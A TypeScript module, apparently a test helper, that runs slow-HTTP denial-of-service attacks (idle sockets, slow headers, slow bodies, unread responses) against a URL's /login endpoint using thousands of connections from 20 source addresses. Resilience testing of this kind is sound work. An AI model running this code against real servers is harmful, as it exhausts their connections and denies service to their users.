import { connect, type Socket } from 'node:net';
import { addressOf } from './sources.ts';

const open = (url: URL, attacker: number): Socket => {
  const socket = connect({ port: Number(url.port), host: url.hostname, localAddress: addressOf(attacker) });
  socket.on('error', () => undefined);
  return socket;
};

/** Opens so many connections, by 20 attackers, a few hundred at a time. */
async function openMany(url: URL, count: number, greet: (socket: Socket) => void): Promise<void> {
  for (let begun = 0; begun < count; begun += 250) {
    for (let at = begun; at < Math.min(count, begun + 250); at++) {
      const socket = open(url, at % 20);
      socket.once('connect', () => greet(socket));
    }
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

const drip = (socket: Socket, text: string) => {
  const timer = setInterval(() => socket.write(text), 1_000);
  socket.once('close', () => clearInterval(timer));
};

/** Connections on which nothing is ever said. */
export const idle = (url: URL) => openMany(url, 5_000, () => undefined);

/** Requests whose headers come a line a second. */
export const slowHeaders = (url: URL) =>
  openMany(url, 2_000, (socket) => {
    socket.write(`GET /login HTTP/1.1\r\nHost: ${url.host}\r\n`);
    drip(socket, 'X-Slow: 1\r\n');
  });

/** Requests whose bodies come a byte a second. */
export const slowBodies = (url: URL) =>
  openMany(url, 2_000, (socket) => {
    socket.write(
      `POST /login HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n`,
    );
    drip(socket, ' ');
  });

/** Requests whose answers are never read. */
export const slowReaders = (url: URL) =>
  openMany(url, 500, (socket) => {
    socket.pause();
    socket.write(`GET /login HTTP/1.1\r\nHost: ${url.host}\r\n\r\n`.repeat(200));
  });
